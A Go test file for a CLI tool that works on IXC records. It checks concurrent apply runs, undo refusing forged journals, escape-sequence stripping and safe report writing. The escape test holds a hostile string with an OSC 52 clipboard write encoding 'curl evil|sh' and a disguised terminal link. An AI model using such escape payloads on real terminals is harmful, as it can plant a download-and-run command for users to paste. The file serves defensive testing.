package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/ixc-leveduca/ixc-leveduca/ixc/ixcsim"
	"github.com/ixc-leveduca/ixc-leveduca/journal"
)

// ---- two writers ----

// Two `apply --profile P --yes` at once against the sandbox with latency
// leave exactly one product and one row per plan: 20 times with separate
// state directories (two machines: no shared lock, the writers converge)
// and 20 times with the same one (one machine: the second run waits for
// the lock, then finds everything done).
func TestTwoAppliesAtOnce(t *testing.T) {
	for _, shared := range []bool{false, true} {
		name := "separate state dirs"
		if shared {
			name = "same state dir"
		}
		t.Run(name, func(t *testing.T) {
			converged, waited := 0, 0
			for round := range 20 {
				w := newApplyWorld(t)
				w.sim.SetFaults(ixcsim.Faults{Latency: 2 * time.Millisecond, Jitter: 8 * time.Millisecond})
				dirs := [2]string{t.TempDir(), t.TempDir()}
				if shared {
					dirs[1] = dirs[0]
				}
				var (
					wg    sync.WaitGroup
					codes [2]int
					outs  [2]string
				)
				for i := range 2 {
					env := map[string]string{"IXC_TOKEN": w.env["IXC_TOKEN"], "IXC_LEVEDUCA_STATE_DIR": dirs[i]}
					wg.Go(func() {
						var out, errb bytes.Buffer
						codes[i] = Main([]string{"apply", "--profile", w.prof, "--yes"}, IO{In: strings.NewReader(""), Out: &out, Err: &errb,
							Getenv: envOf(env)})
						outs[i] = out.String() + errb.String()
					})
				}
				wg.Wait()
				for i, c := range codes {
					if c != ExitOK && c != ExitFindings {
						t.Fatalf("round %d run %d: exit %d\n%s", round, i, c, outs[i])
					}
				}
				prods := w.products()
				if len(prods) != 1 {
					t.Fatalf("round %d: %d products\n%s\n----\n%s", round, len(prods), outs[0], outs[1])
				}
				per := map[string]int{}
				for _, r := range w.links(prods[0]["id"]) {
					per[r["id_vd_contrato"]]++
				}
				if per["3"] != 1 || per["6"] != 1 || len(per) != 2 {
					t.Fatalf("round %d: rows per plan %v\n%s\n----\n%s", round, per, outs[0], outs[1])
				}
				if shared && strings.Contains(outs[0]+outs[1], "another run created") {
					t.Fatalf("round %d: with one lock the runs still raced:\n%s\n%s", round, outs[0], outs[1])
				}
				if strings.Contains(outs[0]+outs[1], "outra execução criou o mesmo registro") {
					converged++
				}
				if strings.Contains(outs[0]+outs[1], "está gravando neste IXC; aguardando") {
					waited++
				}
			}
			t.Logf("%s: %d of 20 rounds raced and converged, %d waited for the lock", name, converged, waited)
			// The two runs start together: at least once in 20 they must
			// have met, or the test shows nothing.
			if !shared && converged == 0 || shared && waited == 0 {
				t.Fatalf("the runs never met (converged %d, waited %d)", converged, waited)
			}
		})
	}
}

// ---- undo trusts no journal ----

// writeJournal writes a journal by hand, as an attacker would.
func writeJournal(t *testing.T, url string, entries ...journal.Entry) string {
	t.Helper()
	var b bytes.Buffer
	h, _ := json.Marshal(map[string]any{"schema": journal.Schema, "ixc_url": url, "token_user": "1", "command": "apply", "started": time.Now()})
	b.Write(append(h, '\n'))
	for _, e := range entries {
		line, _ := json.Marshal(e)
		b.Write(append(line, '\n'))
	}
	p := filepath.Join(t.TempDir(), "diario.jsonl")
	if err := os.WriteFile(p, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// A crafted journal (a foreign table or field, a foreign host, no IXC
// named with --yes) sends no request anywhere and exits 2.
func TestUndoTrustsNoJournal(t *testing.T) {
	w := newApplyWorld(t)
	var foreign atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { foreign.Add(1) }))
	defer evil.Close()
	prod := w.sim.Rows("produtos")[0]["id"]
	ok := journal.Entry{Seq: 1, Op: journal.OpInsert, Table: "vd_contratos_produtos", ID: "1", State: journal.StateDone,
		After: map[string]string{"id_produto": prod}}
	radius := journal.Entry{Seq: 2, Op: journal.OpInsert, Table: "radusuarios", ID: "1", State: journal.StateDone}
	email := journal.Entry{Seq: 2, Op: journal.OpUpdate, Table: "cliente", ID: "1", State: journal.StateDone,
		Before: map[string]string{"email": "ana@example.com"}, After: map[string]string{"email": "evil@example.com"}}
	field := journal.Entry{Seq: 2, Op: journal.OpUpdate, Table: "produtos", ID: prod, State: journal.StateDone,
		Before: map[string]string{"descricao": "x"}, After: map[string]string{"descricao": "y"}}
	withURL := w.undoEnv()
	cases := []struct {
		name    string
		journal string
		env     map[string]string
		args    []string
		want    string
	}{
		{"foreign table", writeJournal(t, w.url, ok, radius), withURL, []string{"--yes"}, `tabela "radusuarios"`},
		{"foreign table, update", writeJournal(t, w.url, ok, email), withURL, []string{"--yes"}, `tabela "cliente"`},
		{"foreign field", writeJournal(t, w.url, ok, field), withURL, []string{"--yes"}, "produtos.descricao"},
		{"foreign table, no --yes", writeJournal(t, w.url, radius), w.env, nil, `tabela "radusuarios"`},
		{"foreign host, IXC_URL ours", writeJournal(t, evil.URL, ok), withURL, []string{"--yes"}, "o diário é do IXC " + evil.URL},
		{"foreign host, no IXC named", writeJournal(t, evil.URL, ok), w.env, []string{"--yes"}, "com --yes, diga em que IXC desfazer"},
		{"our host, no IXC named", writeJournal(t, w.url, ok), w.env, []string{"--yes"}, "com --yes, diga em que IXC desfazer"},
		{"foreign host, --profile ours", writeJournal(t, evil.URL, ok), w.env, []string{"--yes", "--profile", w.prof}, "mas --profile"},
		{"foreign host, asked, no answer", writeJournal(t, evil.URL, ok), w.env, nil, "sem resposta: nada foi enviado"},
		{"no IXC in the journal", writeJournal(t, "", ok), withURL, []string{"--yes"}, "o diário não diz de que IXC é"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			w.sim.ResetStats()
			foreign.Store(0)
			code, out, errOut := runIn(t, c.env, "", append([]string{"undo", c.journal}, c.args...)...)
			if code != ExitUsage || !strings.Contains(errOut, c.want) {
				t.Fatalf("exit %d, stderr %q; want 2 and %q\n%s", code, errOut, c.want, out)
			}
			if n := w.sim.Stats().Requests; n != 0 {
				t.Fatalf("%d requests to the journal's IXC", n)
			}
			if n := foreign.Load(); n != 0 {
				t.Fatalf("%d requests to the foreign host", n)
			}
		})
	}
	// The journal's IXC named by --profile: undo goes ahead (nothing to
	// revert in this hand-made line: the row does not hold what it says).
	code, out, errOut := runIn(t, w.env, "", "undo", writeJournal(t, w.url, ok), "--yes", "--profile", w.prof)
	if code == ExitUsage || foreign.Load() != 0 {
		t.Fatalf("undo with --profile naming the journal's IXC: exit %d\n%s\n%s", code, out, errOut)
	}
}

// ---- no escape reaches the terminal ----

// hostileName is what a hostile IXC puts in names and messages: OSC 52
// (clipboard), clear screen, OSC 8 (link), conceal, DCS, C1 CSI, CR, BEL.
const hostileName = "EVIL\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\\x1b[8mhidden\x1bP+q\x1b\\\u009b2J\rOK\x07"

// controlByte finds a byte that must never reach a terminal from IXC's
// data: ESC, BEL, CR, a C1 control (as UTF-8 U+0080–U+009F) or an invalid
// UTF-8 byte.
func controlByte(s string) (int, bool) {
	for i := 0; i < len(s); {
		r, n := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && n == 1, r == 0x1b, r == 0x07, r == '\r', r >= 0x80 && r <= 0x9f:
			return i, true
		}
		i += n
	}
	return 0, false
}

func assertClean(t *testing.T, what, s string) {
	t.Helper()
	if i, bad := controlByte(s); bad {
		lo, hi := max(0, i-40), min(len(s), i+40)
		t.Errorf("%s: a control byte at %d: %q", what, i, s[lo:hi])
	}
}

// The raw stdout and stderr of audit (text, JSON, Markdown), apply
// --dry-run and apply, against an IXC serving hostile names and error
// messages, hold no ESC, BEL, CR or C1 byte.
func TestNoEscapeReachesTheTerminal(t *testing.T) {
	// The audit: product and plan names, and the message of an IXC error
	// on the customers' listing (the step's reason), all hostile.
	sim, url := tamperedSim(t, func(w http.ResponseWriter, r *http.Request, table string, status int, body []byte) (int, []byte) {
		switch {
		case table == "cliente" && !bytes.Contains(reqBody(r), []byte(`"rp":"1"`)):
			out, _ := json.Marshal(map[string]string{"type": "error", "message": hostileName})
			return 200, out
		case table == "produtos" || table == "vd_contratos":
			return status, editRows(body, func(m map[string]any) {
				for _, k := range []string{"descricao", "nome"} {
					if _, ok := m[k]; ok {
						m[k] = hostileName
					}
				}
			})
		}
		return status, body
	})
	prof := writeHostileProfile(t, "[ixc]\nurl = \""+url+"\"\n\n"+hostileProfile)
	env := map[string]string{"IXC_TOKEN": sim.DemoToken()}
	seen := false
	for _, format := range []string{"text", "json", "markdown"} {
		code, out, errOut := runLimited(t, time.Minute, env, "audit", "--profile", prof, "--format", format)
		if code == ExitUsage || code == ExitIXC {
			t.Fatalf("%s: exit %d\n%s\n%s", format, code, out, errOut)
		}
		assertClean(t, "audit "+format+" stdout", out)
		assertClean(t, "audit "+format+" stderr", errOut)
		if strings.Contains(out, "EVIL") {
			seen = true
		}
	}
	if !seen {
		t.Fatal("no hostile text in any report: the test exercises nothing")
	}

	// apply and apply --dry-run: the plan names, in the plan the user
	// confirms and in the outcomes.
	w := newApplyWorld(t)
	for _, id := range []string{"3", "6"} {
		pl, _ := w.sim.Row("vd_contratos", id)
		pl["nome"] = hostileName + " " + id
		w.sim.Put("vd_contratos", pl)
	}
	// The product exists already (so --dry-run plans its links too), with
	// a hostile name's neighbour: IXC's own text.
	pr := w.sim.Rows("produtos")[0]
	pr["id"], pr["descricao"] = "9999", newProductName
	w.sim.Put("produtos", pr)
	for _, args := range [][]string{{"--dry-run"}, {"--dry-run", "--lang", "en"}, {"--yes"}} {
		code, out, errOut := runIn(t, w.env, "", append([]string{"apply", "--profile", w.prof}, args...)...)
		if code != ExitOK && code != ExitFindings {
			t.Fatalf("apply %v: exit %d\n%s\n%s", args, code, out, errOut)
		}
		assertClean(t, fmt.Sprintf("apply %v stdout", args), out)
		assertClean(t, fmt.Sprintf("apply %v stderr", args), errOut)
		if !strings.Contains(out, "EVIL") {
			t.Fatalf("apply %v shows no plan name:\n%s", args, out)
		}
	}
}

// ---- audit --out ----

// --out writes a new file (0600); an existing file is replaced only with
// --force; a symbolic link is never written through.
func TestAuditOutRefusesOverwriteAndLinks(t *testing.T) {
	sim, _, prof := startSim(t, 50)
	env := map[string]string{"IXC_TOKEN": sim.DemoToken()}
	dir := t.TempDir()
	out := filepath.Join(dir, "relatorio.json")
	if err := os.WriteFile(out, []byte("precioso"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, _, errOut := run(t, env, "audit", "--profile", prof, "--format", "json", "--out", out)
	if code != ExitUsage || !strings.Contains(errOut, "já existe") || !strings.Contains(errOut, "--force") {
		t.Fatalf("existing file: exit %d %q", code, errOut)
	}
	if b, _ := os.ReadFile(out); string(b) != "precioso" {
		t.Fatal("the existing file was changed")
	}
	code, _, errOut = run(t, env, "audit", "--profile", prof, "--format", "json", "--out", out, "--force")
	if code == ExitUsage || code == ExitIXC {
		t.Fatalf("--force: exit %d %q", code, errOut)
	}
	fi, err := os.Stat(out)
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("after --force: %v %v", fi.Mode(), err)
	}
	if b, _ := os.ReadFile(out); !bytes.Contains(b, []byte(`"schema"`)) {
		t.Fatal("--force did not write the report")
	}
	victim := filepath.Join(dir, "victim")
	_ = os.WriteFile(victim, []byte("intocado"), 0o600)
	link := filepath.Join(dir, "link.md")
	if err := os.Symlink(victim, link); err != nil {
		t.Skip("no symbolic links here")
	}
	for _, force := range [][]string{nil, {"--force"}} {
		code, _, errOut = run(t, env, append([]string{"audit", "--profile", prof, "--format", "markdown", "--out", link}, force...)...)
		if code != ExitUsage || !strings.Contains(errOut, "não é um arquivo comum") {
			t.Fatalf("symlink %v: exit %d %q", force, code, errOut)
		}
	}
	if b, _ := os.ReadFile(victim); string(b) != "intocado" {
		t.Fatal("written through the symbolic link")
	}
}
